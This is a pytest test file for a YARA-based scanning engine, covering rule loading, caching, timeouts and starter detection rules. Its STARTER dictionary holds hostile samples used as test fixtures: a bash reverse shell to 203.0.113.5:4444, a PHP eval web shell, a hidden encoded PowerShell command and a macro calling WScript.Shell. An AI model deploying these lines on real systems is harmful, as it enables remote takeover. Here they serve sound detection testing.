from __future__ import annotations

import os
import threading

import pytest
from samples import EICAR, object_of

from engines.yara import Yara

GOOD = 'rule Good { meta: description = "d" author = "a" score = 90 strings: $a = "evil" condition: $a }\n'
HEURISTIC = 'rule Maybe : suspicious { strings: $a = "odd" condition: $a }\n'


@pytest.fixture
def make(tmp_path):
    """An engine with these rule files."""

    def build(files, **more):
        folder = tmp_path / "rules"
        for name, text in files.items():
            (folder / name).parent.mkdir(parents=True, exist_ok=True)
            (folder / name).write_text(text)
        return Yara(rules=[str(folder)], starter=False, cache=tmp_path / "cache", **more)

    return build


def test_verdict_with_the_rule_it_comes_from(make):
    verdict = make({"one.yar": GOOD}).scan(object_of(b"... evil ..."))
    assert (verdict.status, verdict.signature, verdict.signatures) == ("malicious", "Good", ("Good",))
    assert verdict.rule == {"name": "Good", "ruleset": "one.yar", "description": "d", "author": "a"}
    assert make({"one.yar": GOOD}).scan(object_of(b"fine")).status == "clean"


def test_heuristics_only_raise_a_hand(make):
    yara = make({"one.yar": GOOD + HEURISTIC})
    assert yara.scan(object_of(b"odd")).status == "suspicious"
    both = yara.scan(object_of(b"odd and evil"))
    assert (both.status, both.signature, both.signatures) == ("malicious", "Good", ("Good", "Maybe"))


@pytest.mark.parametrize(
    ("meta", "status"), [("score = 40", "suspicious"), ("score = 75", "malicious"), ('severity = "low"', "suspicious")]
)
def test_metadata_may_mark_a_heuristic(make, meta, status):
    yara = make({"one.yar": f'rule R {{ meta: {meta} strings: $a = "evil" condition: $a }}'})
    assert yara.scan(object_of(b"evil")).status == status


def test_equal_names_in_two_files_do_not_clash(make):
    yara = make({"one.yar": GOOD, "sub/two.yara": GOOD.replace("evil", "worse"), "notes.txt": "no rule"})
    assert yara.problems == []
    assert yara.scan(object_of(b"worse")).rule["ruleset"] == "two.yara"


def test_includes_are_relative_to_their_file(make):
    yara = make({"top.yar": 'include "inc/part.inc"\n', "inc/part.inc": GOOD})
    assert yara.scan(object_of(b"evil")).status == "malicious"


def test_a_broken_file_is_named_with_its_line_and_the_others_load(make):
    yara = make({"bad.yar": "rule Bad {\n condition:\n  nonsense_word\n}\n", "good.yar": GOOD})
    assert len(yara.problems) == 1
    assert "bad.yar:3: " in yara.problems[0]
    assert "nonsense_word" in yara.problems[0]
    assert yara.scan(object_of(b"evil")).status == "malicious"
    assert yara.check() is None


def test_broken_files_are_named_again_at_the_next_start(make):
    files = {"bad.yar": "rule Bad {", "good.yar": GOOD}
    assert make(files).problems == make(files).problems != []


@pytest.mark.parametrize("files", [{"bad.yar": "rule Bad {"}, {"notes.txt": "no rules here"}])
def test_without_a_usable_rule_it_says_so_and_is_never_clean(make, files):
    yara = make(files)
    assert yara.check()
    assert yara.scan(object_of(b"x")).status == "error"


def test_a_missing_path_is_named(tmp_path):
    yara = Yara(rules=[str(tmp_path / "nowhere")], cache=tmp_path / "cache")
    assert yara.problems == [f"{tmp_path / 'nowhere'}: no such file or folder"]
    assert yara.check() is None


def test_an_unreadable_file_is_named(make, tmp_path):
    (tmp_path / "rules").mkdir()
    (tmp_path / "rules" / "dangling.yar").symlink_to(tmp_path / "nowhere")
    yara = make({"good.yar": GOOD})
    assert yara.scan(object_of(b"evil")).status == "malicious"


@pytest.mark.parametrize(
    ("condition", "more"),
    [
        ('filename == "a.exe"', {}),
        ('extension == ".exe"', {}),
        ('filetype == "text/html"', {"mime_type": "text/html"}),
        ('protocol == "smtp"', {"protocol": "smtp"}),
    ],
)
def test_external_variables(make, condition, more):
    yara = make({"one.yar": f"rule R {{ condition: {condition} }}"})
    assert yara.scan(object_of(b"x", "a.exe", **more)).status == "malicious"
    assert yara.scan(object_of(b"x", "a.txt")).status == "clean"


@pytest.mark.parametrize("name", ["nul\0.exe", "lone \udcff surrogate.exe", "💥.exe", None])
def test_hostile_names_do_no_harm(make, name):
    assert make({"one.yar": GOOD}).scan(object_of(b"evil", name)).status == "malicious"


def test_objects_on_disk_are_matched_there(make):
    assert make({"one.yar": GOOD}).scan(object_of(b"x" * 10_000 + b"evil", on_disk=True)).status == "malicious"


def test_compiled_rules_are_kept_and_made_anew_when_anything_changed(make, tmp_path):
    files = {"top.yar": 'include "part.inc"\n' + HEURISTIC, "part.inc": GOOD}
    first = make(files)
    (kept,) = (tmp_path / "cache").iterdir()
    stamp = kept.stat().st_mtime_ns
    assert make(files).database_version == first.database_version
    assert kept.stat().st_mtime_ns == stamp
    changed = make(files | {"part.inc": GOOD.replace("evil", "worse")})
    assert changed.database_version != first.database_version
    assert changed.scan(object_of(b"worse")).status == "malicious"


def test_a_damaged_cache_is_made_anew(make, tmp_path):
    make({"one.yar": GOOD})
    (kept,) = (tmp_path / "cache").iterdir()
    kept.write_bytes(b"YARA" + os.urandom(100))
    assert make({"one.yar": GOOD}).scan(object_of(b"evil")).status == "malicious"


def test_a_cache_that_can_not_be_written_costs_nothing_but_time(tmp_path):
    (tmp_path / "file").write_text("in the way")
    assert Yara(cache=tmp_path / "file" / "cache").scan(object_of(EICAR)).status == "malicious"


def test_a_slow_rule_is_a_timeout(make):
    loop = "rule Slow { condition: for all i in (0..2000000000) : (uint8(i % 10) < 256) }"
    assert make({"one.yar": loop}, timeout=1.0).scan(object_of(b"0123456789ab")).status == "timeout"


def test_threads_share_the_rules(make):
    yara, verdicts = make({"one.yar": GOOD}), []
    threads = [threading.Thread(target=lambda: verdicts.append(yara.scan(object_of(b"evil" * 99)))) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(10)
    assert [verdict.status for verdict in verdicts] == ["malicious"] * 8


PE = b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\0\0" + bytes(200)
STARTER = {
    "EICAR_test_file": (EICAR, {}),
    "Executable_with_document_name": (PE, {"name": "invoice.pdf.exe"}),
    "Executable_named_as_other_type": (PE, {"name": "picture.jpg"}),
    "Encoded_PowerShell_command": (b'cmd /c powershell -nop -w hidden -enc "' + b"QUJD" * 30 + b'"', {"name": "a.bat"}),
    "Shortcut_that_starts_a_script_host": (
        bytes.fromhex("4c0000000114020000000000c000000000000046") + "PowerShell".encode("utf-16-le"), {"name": "a.lnk"}
    ),
    "Macro_that_runs_itself_and_a_shell": (
        bytes.fromhex("d0cf11e0a1b11ae1") + b"..Sub AutoOpen()..WScript.Shell..", {"name": "a.doc"}
    ),
    "Page_that_assembles_a_file": (
        b"<script>var d='" + b"QUJD" * 1100 + b"';b=new Blob([atob(d)]);a.download='x'</script>", {"name": "a.htm"}
    ),
    "PHP_that_runs_what_it_is_sent": (b"<?php @eval($_POST['c']); ?>", {"name": "a.php"}),
    "Shell_script_with_reverse_shell": (b"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n", {"name": "a.sh"}),
    "Java_archive_by_mail": (
        b"PK\3\4", {"name": "a.jar", "protocol": "smtp", "mime_type": "application/java-archive"}
    ),
}  # fmt: skip


@pytest.fixture(scope="module")
def starter(tmp_path_factory):
    return Yara(cache=tmp_path_factory.mktemp("cache"))


@pytest.mark.parametrize("rule", STARTER)
def test_starter_rules_find_what_they_are_for(starter, rule):
    payload, more = STARTER[rule]
    assert rule in starter.scan(object_of(payload, more.pop("name", "sample.bin"), **more)).signatures


def test_every_starter_rule_has_a_sample(starter):
    import re

    from engines.yara import STARTER as FOLDER

    rules = {
        name for file in FOLDER.glob("*.yar") for name in re.findall(r"^rule (\w+)", file.read_text(), re.MULTILINE)
    }
    assert rules == set(STARTER)


@pytest.mark.parametrize(
    "payload",
    [b"plain text about powershell and bash", PE, b"<script>new Blob([1])</script>", b"<?php echo $_GET['a']; ?>"],
)
def test_starter_rules_leave_ordinary_things_alone(starter, payload):
    assert starter.scan(object_of(payload, "readme.bin")).status == "clean"
